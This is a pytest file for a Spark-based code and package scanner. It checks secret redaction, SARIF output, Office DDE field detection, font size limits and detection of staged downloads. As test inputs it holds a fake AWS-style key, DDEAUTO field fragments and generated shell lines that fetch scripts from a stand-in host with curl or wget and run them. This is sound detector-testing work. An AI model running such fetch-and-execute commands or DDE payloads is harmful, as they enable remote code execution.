"""What leaves the engine: logs, sanitised rows, advice; and detectors that keep fields and limits apart."""

import json
import random
import struct
import zlib

from pyspark.sql import functions as F

from treesift.operators import active, display, packages, report
from treesift.operators.advice import advice
from treesift.operators.rules import builtin_rules
from treesift.operators.structured_table import STRUCTURED

KEY = "AKIA" + "ABCDEFGHIJKLMNOP"
FILES = "repo_id string, path string, text string"


def test_strings_at_any_depth_are_sanitised(spark, tmp_path):
    schema = "a string, b array<struct<c: string, d: map<string, array<string>>>>, e struct<f: struct<g: string>, h: int>, i map<string, string>, j binary"
    row = (f"x{KEY}\x07", [(KEY, {"k": [KEY, None], KEY: None}), None], ((f"password={KEY}",), 3), {KEY: "1", "AKIA" + "Z" * 16: "2"}, b"\x00")
    df = spark.createDataFrame([row, (None, None, None, None, None)], schema)
    clean = report.sanitized_rows(df)
    assert clean.schema.simpleString() == df.schema.simpleString()
    shown = clean.collect()
    assert KEY not in repr(shown) and "AKIA" not in repr(shown) and "\x07" not in shown[0]["a"]
    assert shown[0]["e"]["h"] == 3 and bytes(shown[0]["j"]) == b"\x00" and shown[0]["b"][1] is None and shown[1]["e"] is None
    assert len(shown[0]["i"]) == 1  # two keys that are shown alike: the first stays
    report.write_findings(df.select("a", "b"), f"{tmp_path}/out")
    assert "AKIA" not in repr(spark.read.parquet(f"{tmp_path}/out").collect())


def findings(spark, n):
    rows = [("big", f"R{i % 3}", f"m{i % 3} {i}", "c", "critical" if i % 2 else "low", "high", "executable", "review", f"src/{i}.js", i, KEY if i == 4 else "", f"sha256:{i}") for i in range(n)]
    return spark.createDataFrame(rows + [("small", "R1", "other", "c", "low", "low", "executable", "review", "a", 0, "", "sha256:x")], "repo_id string, rule_id string, message string, category string, severity string, confidence string, context string, disposition string, path string, line int, evidence string, fingerprint string")


def test_logs_are_whole_in_every_part(spark):
    coverage = spark.createDataFrame([("big", True, ""), ("small", False, None), ("none", True, None), ("failed", True, "boom")], "repo_id string, complete boolean, error string")
    rows = report.sarif_log(findings(spark, 300), coverage, 40).collect()
    logs = {}
    for r in rows:
        log = json.loads(r["log"])
        assert log["version"] == "2.1.0" and len(log["runs"]) == 1
        run = log["runs"][0]
        assert len(run["results"]) == r["results"] < 120
        assert {x["id"] for x in run["tool"]["driver"]["rules"]} == {x["ruleId"] for x in run["results"]}
        logs.setdefault(r["repo_id"], []).append(run)
    assert len(logs["big"]) == 8 and sum(len(r["results"]) for r in logs["big"]) == 300
    assert {k: {r["invocations"][0]["executionSuccessful"] for r in v} for k, v in logs.items()} == {"big": {True}, "small": {False}, "none": {True}, "failed": {False}}
    described = {(x["id"], x["shortDescription"]["text"]) for r in logs["big"] for x in r["tool"]["driver"]["rules"]}
    assert len(described) == 3  # the same, the last, in every part
    assert KEY not in repr(rows) and all(x["properties"]["advice"] for r in logs["big"] for x in r["tool"]["driver"]["rules"])
    assert logs["none"][0]["results"] == []


def test_every_category_has_advice(spark):
    categories = sorted({r[1] for r in STRUCTURED} | {r.category for r in builtin_rules()})
    df = spark.createDataFrame([(c,) for c in categories], "category string").select("category", advice(F.col("category")).alias("said"))
    assert df.where("said is null or said = ''").count() == 0
    assert df.select("said").distinct().count() > 10


def test_fields_are_kept_apart(spark):
    run = lambda *texts: "".join(f"<w:r><w:instrText>{t}</w:instrText></w:r>" for t in texts)
    mark = lambda kind: f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
    bodies = {
        "cut": mark("begin") + run("D", "DE ", "cmd x") + mark("end"), "two": mark("begin") + run("D") + mark("end") + mark("begin") + run("DE cmd x") + mark("end"),
        "simple": '<w:fldSimple w:instr="DDEAUTO c x"><w:t>1</w:t></w:fldSimple>', "next": '<w:fldSimple w:instr="D"/>' + mark("begin") + run("DE x") + mark("end"), "word": mark("begin") + run("PAGE ADDED ") + mark("end"),
        "result": mark("begin") + run("D") + mark("separate") + run("DE x") + mark("end"),
    }
    members = spark.createDataFrame([("r", f"{k}.docx!word/document.xml", f"<w:document>{v}</w:document>") for k, v in bodies.items()], FILES)
    found = {r.path.split(".")[0] for r in packages.office_findings(members).where("rule_id = 'DOC-004'").collect()}
    assert found == {"cut", "simple"}


def test_fonts_over_the_drawing_limit_are_a_gap(spark, monkeypatch):
    drawing = zlib.compressobj(wbits=31)
    data = drawing.compress(b"<svg/>" + b" " * (9 << 20)) + drawing.flush()
    table = struct.pack(">HIxxxx", 0, 10) + struct.pack(">H", 1) + struct.pack(">HHII", 0, 0, 14, len(data)) + data
    font = struct.pack(">4sHHHH", b"OTTO", 1, 0, 0, 0) + struct.pack(">4sIII", b"SVG ", 0, 28, len(table)) + table
    files = spark.createDataFrame([("r", "a.otf", bytearray(font))], "repo_id string, path string, content binary")
    assert [r.rule_id for r in packages.font_findings(files).collect()] == ["FONT-002", "FONT-003"]
    assert [r.reason for r in packages.font_gaps(files).collect()] == ["font drawing limit"]


def test_the_range_join_gives_what_a_look_at_each_file_gives(spark):
    random.seed(9)
    lines = lambda: random.choice([f"curl -o f{random.randrange(4)}.sh https://x.example/a", f"bash ./f{random.randrange(4)}.sh; echo f1.sh", f"wget https://x.example/f{random.randrange(4)}.sh && sh f1.sh", "chmod +x f1.sh", "# curl", "echo", "", f"sudo F{random.randrange(4)}.sh"])
    texts = [(f"{i}.sh", "\n".join(lines() for _ in range(random.choice((1, 30, 300))))) for i in range(40)]
    files = spark.createDataFrame([("r", p, t) for p, t in texts], FILES)
    plain = sorted((p, a, b, d) for p, t in texts for _, a, b, d in active.staged_execution(p, t))
    rows = files.select("repo_id", "path", F.posexplode(F.split("text", "\n")).alias("at", "line")).select("repo_id", "path", (F.col("at") + 1).alias("line_no"), "line")
    assert sorted((r.path, r.start_line, r.end_line, r.destination) for r in active.staged_in_lines(rows).collect()) == plain and len(plain) > 100


def test_values_as_they_are_shown(spark):
    one = lambda column, value: spark.range(1).select(column(F.lit(value))).first()[0]
    sizes = {0: "0 B", 1023: "1023 B", 1024: "1.0 KiB", 1536: "1.5 KiB", 5 << 20: "5.0 MiB", 1 << 50: "1024.0 TiB"}
    assert {n: one(display.byte_size, n) for n in sizes} == sizes
    times = {0: "0s", 400_000: "0s", 1_500_000: "2ms", 999_400_000: "999ms", 999_600_000: "1s", 1_400_000_000: "1s", 61_000_000_000: "1m1s", 3_600_000_000_000: "1h0m0s", 90_061_000_000_000: "25h1m1s"}
    assert {n: one(display.duration, n) for n in times} == times
    targets = {
        "https://me:pw@x.example/a/b?token=1#f": "https://[REDACTED]@x.example/a/b", "https://x.example": "https://x.example", "ssh://git@h/r.git": "ssh://[REDACTED]@h/r.git", "/a/b?c": "/a/b?c", "a@b": "a@b",
    }
    assert {t: one(display.display_target, t) for t in targets} == targets
    assert one(display.display_text, "a\x1b[31m\u0085b") == "a�[31m�b"
    homes = {"/home/me": "~", "/home/me/x": "~/x", "/home/men": "/home/men", "x": "x"}
    assert {p: one(lambda c: display.abbreviated_home(c, "/home/me"), p) for p in homes} == homes


def test_products_of_large_keys_are_shown(spark, tmp_path):
    from treesift.plans.finding_queries import shown_values_f

    rows = [(1, 1, 3, 5), (9_000_000, 1, 1_200_000, 60_000), (9_000_000, 2, 1_200_000, 60_000), (60_000_000, 1, 8_000_000, 400_000)]
    spark.createDataFrame(rows, "l_orderkey long, l_linenumber int, l_partkey long, l_suppkey long").write.parquet(f"{tmp_path}/lineitem.parquet")
    shown = {(r.l_orderkey, r.l_linenumber): (r.size, r.time) for r in shown_values_f(spark, str(tmp_path)).collect()}
    tib = lambda n: f"{n / 1024**4:.1f} TiB"
    clock = lambda s: f"{s // 3600}h{s % 3600 // 60}m{s % 60}s"
    assert shown == {
        (1, 1): ("15 B", "3s"), (9_000_000, 1): (tib(9_000_000 * 1_200_000 * 60_000), clock(9_000_000 * 1_200_000)), (9_000_000, 2): (tib(9_000_000 * 1_200_000 * 60_000), clock(9_000_000 * 1_200)),
        (60_000_000, 1): (tib(60_000_000 * 8_000_000 * 400_000), clock(60_000_000 * 8_000_000)),
    }


def _plan(df):
    return df._jdf.queryExecution().optimizedPlan().toString()


def test_places_are_not_shuffled_where_none_are_counted(spark, sf_dir):
    from treesift.operators import findings as ops
    from treesift.plans.finding_queries import group_headers_f
    from treesift.plans.projection import raw_findings

    raw = raw_findings(spark, sf_dir)
    few, whole = ops.dedup(raw, count_places=False), ops.dedup(raw)
    assert _plan(few).count("Aggregate [") == 1 and "n_locations" not in few.columns
    assert sorted(map(repr, few.collect())) == sorted(map(repr, whole.drop("n_locations").collect()))
    assert "l_orderkey" not in _plan(group_headers_f(spark, sf_dir))  # ranks are of findings kept, not of the table read twice


def test_logs_work_findings_out_once(spark, sf_dir):
    from treesift.plans.finding_queries import sarif_log_f

    assert "l_orderkey" not in _plan(sarif_log_f(spark, sf_dir))
